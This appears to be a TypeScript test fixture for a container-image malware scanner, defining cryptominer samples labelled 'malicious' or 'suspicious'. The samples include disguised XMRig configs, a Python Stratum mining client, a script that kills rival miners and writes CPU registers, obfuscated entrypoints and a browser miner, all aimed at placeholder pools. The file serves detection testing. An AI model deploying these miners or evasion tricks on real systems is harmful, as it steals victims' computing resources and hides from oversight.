import { base64, noise } from './bytes.ts';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';
import { bitcoin, monero } from './wallets.ts';

/** What `--help` of the most common CPU miner prints, in part: stands for its binary. */
const help = [
  'Usage: xmrig [OPTIONS]',
  '-o, --url=URL                 URL of mining server',
  '-a, --algo=ALGO               mining algorithm https://xmrig.example.invalid/docs/algorithms',
  '    --donate-level=N          donate level, default 1%',
  '    --randomx-1gb-pages       use 1GB hugepages for RandomX dataset (Linux only)',
  'randomx/rx/0 cn/r argon2/chukwa',
  'speed 10s/60s/15m %s H/s max',
];

export const samples = ofFamily('miner', [
  {
    id: 'miner-xmrig-config',
    level: 'easy',
    technique: 'XMRig with its config.json, as most Docker Hub miners (Unit 42, 2021; ATT&CK T1496.001).',
    files: {
      'opt/xmrig/xmrig': program(help),
      'opt/xmrig/config.json': JSON.stringify({
        autosave: true,
        'donate-level': 1,
        cpu: { enabled: true, 'huge-pages': true, 'max-threads-hint': 100 },
        pools: [{ algo: 'rx/0', url: 'pool.example.invalid:3333', user: monero, pass: 'x', keepalive: true }],
      }),
    },
    config: { Entrypoint: ['/opt/xmrig/xmrig'], Cmd: ['-c', '/opt/xmrig/config.json'] },
    expect: 'malicious',
    where: 'opt/xmrig/xmrig',
  },
  {
    id: 'miner-config-alone',
    level: 'ordinary',
    technique:
      'The config of a miner whose program comes later, under a name of the system (TeamTNT, Cado 2020).',
    files: {
      'usr/share/fonts/.cache/.d.json': JSON.stringify({
        background: true,
        randomx: { mode: 'auto', '1gb-pages': true, wrmsr: true, numa: true },
        pools: [
          {
            coin: 'monero',
            url: '203.0.113.7:14433',
            user: monero,
            'rig-id': null,
            tls: true,
            nicehash: false,
          },
        ],
      }),
    },
    expect: 'malicious',
    where: 'usr/share/fonts/.cache/.d.json',
  },
  {
    id: 'miner-entrypoint-arguments',
    level: 'easy',
    technique:
      'Pool and wallet only in the command of the image (Aqua, "Fileless malware in Docker Hub", 2021; T1496.001).',
    files: { 'usr/local/bin/trainer': program(['usage: trainer [options]']) },
    config: {
      Entrypoint: ['/usr/local/bin/trainer'],
      Cmd: ['-o', 'stratum+tcp://pool.example.invalid:3333', '-u', monero, '-p', 'x', '--donate-level', '1'],
    },
    expect: 'malicious',
    where: 'config',
  },
  {
    id: 'miner-renamed-worker',
    level: 'ordinary',
    technique:
      'A miner under the name of a kernel thread, started in the background (Kinsing kdevtmpfsi; Aqua 2020).',
    files: {
      'tmp/kdevtmpfsi': program([...help, 'stratum+ssl://%s:%d', '"method":"login"']),
      'start.sh':
        '#!/bin/sh\nchmod +x /tmp/kdevtmpfsi\nnohup /tmp/kdevtmpfsi >/dev/null 2>&1 &\nexec sleep infinity\n',
    },
    config: { Entrypoint: ['/start.sh'] },
    expect: 'malicious',
    where: 'tmp/kdevtmpfsi',
  },
  {
    id: 'miner-stratum-python',
    level: 'hard',
    technique: 'A client of the pool protocol in Python, without a word of mining in it (T1496.001).',
    files: {
      'srv/app/sync.py': `import json, socket
s = socket.create_connection(("192.0.2.44", 3333))
def call(m, p, i=1):
    s.sendall((json.dumps({"id": i, "jsonrpc": "2.0", "method": m, "params": p}) + "\\n").encode())
call("mining.subscribe", ["worker/1.0"])
call("mining.authorize", ["${bitcoin}.w1", "x"])
for line in s.makefile():
    j = json.loads(line)
    if j.get("method") == "mining.notify":
        call("mining.submit", ["${bitcoin}.w1", j["params"][0], "00000000", j["params"][7], "00000000"], 4)
`,
    },
    expect: 'malicious',
    where: 'srv/app/sync.py',
  },
  {
    id: 'miner-kill-rivals',
    level: 'easy',
    technique:
      'A script ends other miners, then sets huge pages and model registers (8220 Gang, Talos 2018; T1562.001).',
    files: {
      'usr/bin/setup-gpu.sh': `#!/bin/bash
for p in kinsing kdevtmpfsi xmrig xmr-stak minerd ccminer watchbog; do pkill -9 -f $p; done
netstat -anp | grep ':3333\\|:4444\\|:5555\\|:14433' | awk '{print $7}' | cut -d/ -f1 | xargs -r kill -9
sysctl -w vm.nr_hugepages=1280
modprobe msr allow_writes=on; wrmsr -a 0x1a4 0xf
./bioset -B -o 198.51.100.20:443 -u ${monero} -k --tls
`,
    },
    expect: 'malicious',
    where: 'usr/bin/setup-gpu.sh',
  },
  {
    id: 'miner-wasm-browser',
    level: 'ordinary',
    technique: 'A browser miner in the page of a web service (Coinhive and its heirs; T1496.001).',
    files: {
      'usr/share/nginx/html/index.html': `<html><script src="https://static.example.invalid/lib/cryptonight.wasm.js"></script>
<script>var miner = new CoinHive.Anonymous('${'A'.repeat(32)}', {throttle: 0.2, threads: 4});
miner.start(CoinHive.FORCE_EXCLUSIVE_TAB);</script></html>`,
    },
    expect: 'malicious',
    where: 'usr/share/nginx/html/index.html',
  },
  {
    id: 'miner-base64-config',
    level: 'hard',
    technique:
      'Pool and wallet are decoded at the start, so that no file has them in plain (WatchDog, Unit 42 2021; T1027).',
    files: {
      'app/entry.py': `import base64, json, os, subprocess
C = "${base64(JSON.stringify({ url: 'stratum+tcp://pool.example.invalid:3333', user: monero, algo: 'rx/0' }))}"
c = json.loads(base64.b64decode(C))
os.execv("/app/node", ["node", "-o", c["url"], "-u", c["user"], "-a", c["algo"], "--cpu-priority", "5"])
`,
      'app/node': noise('packed program', 4096),
    },
    config: { Cmd: ['python3', '/app/entry.py'] },
    expect: 'malicious',
    where: 'app/entry.py',
  },
  {
    id: 'miner-go-static',
    level: 'hard',
    technique: 'A miner written in Go, its module paths left in place (Kinsing, HeadCrab; Aqua 2023).',
    files: {
      'usr/sbin/irqbalanced': program([
        'go1.20.4',
        'Go build ID: "stand-in"',
        'main.(*StratumClient).Login',
        'main.(*Worker).hashBlob',
        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"%s","algo":["rx/0"]}}',
        'randomx_calculate_hash',
        'randomx_init_cache',
      ]),
    },
    expect: 'malicious',
    where: 'usr/sbin/irqbalanced',
  },
  {
    id: 'miner-pool-proxy',
    level: 'ordinary',
    technique: 'xmrig-proxy: the provider becomes the relay of a whole botnet of miners (Talos 2018; T1090).',
    files: {
      'etc/relay/config.json': JSON.stringify({
        mode: 'nicehash',
        bind: [{ host: '0.0.0.0', port: 3333, tls: false }],
        'custom-diff': 0,
        'donate-level': 0,
        pools: [{ url: 'pool.example.invalid:443', user: monero, pass: 'relay', keepalive: true, tls: true }],
      }),
      'usr/bin/relay': program([
        'xmrig-proxy',
        'workers',
        'upstreams',
        'ratio 1:%d',
        'accepted (%d/%d) diff %d',
      ]),
    },
    config: { Cmd: ['/usr/bin/relay', '-c', '/etc/relay/config.json'] },
    expect: 'malicious',
    where: 'etc/relay/config.json',
  },
  {
    id: 'miner-split-command',
    level: 'hard',
    technique: 'The command line put together from variables, so that no string of it is whole (T1027.010).',
    files: {
      'entrypoint.sh': `#!/bin/bash
a=stra; b=tum; c=+tcp; h=pool.example; t=.invalid
w=4; for i in $(seq 94); do w="$w"A; done
exec -a "[kworker/u8:2]" /lib/.x/ld -o "$a$b$c://$h$t:3333" -u "$w" --donate"-level" 0 --threads=$(nproc)
`,
      'lib/.x/ld': noise('program under a wrong name', 2048),
    },
    config: { Entrypoint: ['/entrypoint.sh'] },
    expect: 'malicious',
    where: 'entrypoint.sh',
  },
  {
    id: 'miner-storage-chia',
    level: 'ordinary',
    technique: 'Plots of a proof-of-space coin on the disk of the provider (T1496).',
    files: {
      'opt/farm/run.sh': `#!/bin/sh
chia init && chia keys add -f /opt/farm/.k
chia plots create -k 32 -n 100 -r $(nproc) -t /tmp/plot -d /data -f ${'b'.repeat(96)} -c xch1${'q'.repeat(58)}
chia start harvester --restart
`,
    },
    config: { Cmd: ['/opt/farm/run.sh'] },
    expect: 'suspicious',
    where: 'opt/farm/run.sh',
  },
]);
